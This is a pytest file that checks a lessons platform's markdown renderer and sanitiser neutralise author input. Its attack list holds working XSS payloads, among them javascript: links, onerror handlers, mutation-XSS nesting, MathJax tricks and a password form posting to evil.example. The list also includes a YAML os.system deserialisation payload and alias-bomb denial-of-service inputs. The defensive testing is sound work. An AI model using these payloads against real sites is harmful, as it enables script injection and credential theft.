"""Texts of authors, or of somebody with an author's account, cannot run anything."""

from html.parser import HTMLParser
from urllib.parse import urlsplit

import pytest

from lessons.errors import ContentError
from lessons.markdown.glossary import MarkedWord
from lessons.markdown.inline import render_inline
from lessons.markdown.sanitising import sanitise
from lessons.rendering import render_markdown
from tests.each import each

SCRIPT = "<script>alert(1)</script>"
ATTACKS = [
    SCRIPT,
    "<img src=x onerror=alert(1)>",
    "<svg/onload=alert(1)>",
    "<iframe srcdoc='<script>alert(1)</script>'></iframe>",
    "<style>*{display:none}</style>",
    "<p style='position:fixed;inset:0'>over all</p>",
    "<form action=//evil.example><input name=password></form>",
    "<base href=//evil.example>",
    "<a href='javascript:alert(1)'>x</a>",
    "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)></style></mglyph></table>",
    "<math href='javascript:alert(1)'>x</math>",
    "<noscript><p title='</noscript><img src=x onerror=alert(1)>'>",
    "[x](javascript:alert(1))",
    "[x](JaVaScRiPt:alert(1))",
    "[x](&#106;avascript:alert(1))",
    "[x](java\tscript:alert(1))",
    "[x](vbscript:msgbox(1))",
    "[x](data:text/html;base64,PHNjcmlwdD4=)",
    "[x](lesson:javascript:alert(1))",
    "<javascript:alert(1)>",
    "![x](javascript:alert(1))",
    "![x](x 'onerror=alert(1)')",
    '[x](/a "title\\" onmouseover=alert(1) \\"")',
    "[x]: javascript:alert(1)\n\n[x]",
    f"`{SCRIPT}`",
    f"```\n{SCRIPT}\n```",
    '```text" onload="alert(1)\nx\n```',
    f"### {SCRIPT}",
    f"| {SCRIPT} |\n|---|\n| {SCRIPT} |",
    f"::: unfold {SCRIPT}\n{SCRIPT}\n:::",
    f"::: predict <img src=x onerror=alert(1)>\n{SCRIPT}\n:::",
    f'::: aside " onload="alert(1)\n{SCRIPT}\n:::',
    f"$\\text{{{SCRIPT}}}$",
    f"$$\n\\text{{{SCRIPT}}}\n$$",
    "$\\text{</math><img src=x onerror=alert(1)>}$",
    f"${SCRIPT}$",
    "$\\href{javascript:alert(1)}{x}$",
    "$\\unicode{x3c}script\\unicode{x3e}$",
    "$\\style{position:fixed}{x}$",
    "$\\class{x}{y}$",
    "$\\operatorname{<script>}$",
    f"```heat_matrix\ncaption: '{SCRIPT}'\nvalues: [[1]]\n```",
    f"```heat_matrix\ncaption: x\nrows: ['{SCRIPT}']\ncolumns: ['\"><b>']\nvalues: [[1]]\n```",
    f"```heat_matrix\ncaption: x\nvalues: [['{SCRIPT}']]\n```",
    "```heat_matrix\n!!python/object/apply:os.system ['true']\n```",
    f"```attention_steps\ntokens: ['{SCRIPT}']\nq: [[1]]\nk: [[1]]\nv: [[1]]\n```",
    "```attention_steps\ntokens: ['$\\foo$']\nq: [[1]]\nk: [[1]]\nv: [[1]]\n```",
]
SCHEMES = {"", "http", "https", "mailto"}
DANGEROUS = {
    *("script", "style", "iframe", "object", "embed", "form", "input", "base", "link", "meta"),
    *("svg", "video", "audio", "template", "noscript", "mglyph", "annotation-xml"),
}


class Inspector(HTMLParser):
    """Collects what a browser could act on."""

    def __init__(self, html: str):
        super().__init__()
        self.found: list[str] = []
        self.feed(html)
        self.close()

    def handle_starttag(self, tag, attributes):
        if tag in DANGEROUS:
            self.found.append(tag)
        for name, value in attributes:
            if name.startswith("on") or name in ("style", "src", "srcdoc", "action", "xlink:href"):
                self.found.append(f"{tag} {name}")
            if name == "href" and urlsplit(value or "").scheme not in SCHEMES:
                self.found.append(f"{tag} href={value}")


WIDGETS = [attack for attack in ATTACKS if attack.startswith(("```heat", "```attention"))]
# Tags of the widgets' own templates.
OF_WIDGETS = ("template", "input")


@each("render", [render_markdown, render_inline])
@each("attack", ATTACKS)
def test_attacks_are_inert(render, attack):
    try:
        found = Inspector(render(attack)).found
    except ContentError:
        return  # refused: nothing is shown at all
    assert not [each for each in found if not (attack in WIDGETS and each in OF_WIDGETS)]


def test_the_inspector_finds_what_it_should():
    found = Inspector("<a onclick=x href=javascript:1><script>").found
    assert found == ["a onclick", "a href=javascript:1", "script"]


def test_the_sanitiser_alone_stops_attacks():
    """The sanitiser stops what the renderer might ever let through."""
    for attack in ATTACKS:
        assert not Inspector(sanitise(attack)).found


@each("tag", ["img", "IMG", "image"])
def test_an_image_from_elsewhere_is_dropped_however_it_is_written(tag):
    """Only a text with an image in the renderer's own writing passes the filter of addresses."""
    own = '<img src="/lessons/images/map/0a/" alt="">'
    for before in ("", own):
        html = sanitise(f"<p>{before}<{tag} src='//evil.example/x'></p>")
        assert before in html
        assert "evil" not in html


def test_the_words_of_a_glossary_are_escaped():
    word = MarkedWord(("<b>",), '"><script>')
    assert not Inspector(render_markdown("A <b> here", words=[word])).found


def test_html_is_shown_as_it_was_written():
    assert "&lt;b&gt;bold&lt;/b&gt;" in render_markdown("<b>bold</b>")


def test_links_tell_nobody_where_they_were():
    assert 'rel="noopener noreferrer"' in render_markdown("[x](https://example.org)")


ALIASES = "a: &a [1,1,1,1,1,1,1,1,1]\nb: &b [*a,*a,*a,*a,*a,*a,*a,*a]\n"
DEEP = "caption: x\nvalues: " + "[" * 5000 + "\n"


@each(
    "text, message",
    [
        (f"```heat_matrix\n{ALIASES}```", "aliases aren’t allowed"),
        (f"```heat_matrix\n{DEEP}```", ""),
        ("$\\newcommand{\\a}{\\a\\a}\\a$", ""),
    ],
)
def test_what_unfolds_without_end_is_refused(text, message):
    with pytest.raises(ContentError, match=message):
        render_markdown(text)
